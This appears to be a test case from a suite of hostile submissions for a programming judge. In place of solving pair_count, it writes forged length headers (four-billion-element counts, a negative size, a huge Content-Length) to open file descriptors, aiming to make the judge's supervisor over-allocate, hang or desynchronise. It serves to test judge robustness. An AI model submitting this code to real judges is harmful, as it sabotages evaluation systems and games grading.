# /// attack
# aim = "Writes headers that promise four gigabytes, or less than nothing, in the formats that supervisors use, so that the reader allocates, waits for ever, or loses its place."
# outcome = ["WA"]
# naive = "silent"
#
# [elsewhere]
# wasm = ["RTE"]
# ///

import os
import struct

HEADERS = (
    # An answer: a list of four billion elements.
    b"A\1\x08" + struct.pack("<I", 0xFFFFFFFF),
    struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF),
    struct.pack("<qq", -1, 1 << 62),
    b"Content-Length: 99999999999999999999\r\n\r\n",
)


def pair_count(numbers, target):
    for header in HEADERS:
        for descriptor in range(1, 64):
            try:
                os.write(descriptor, header)
            except OSError:
                pass
    os._exit(0)
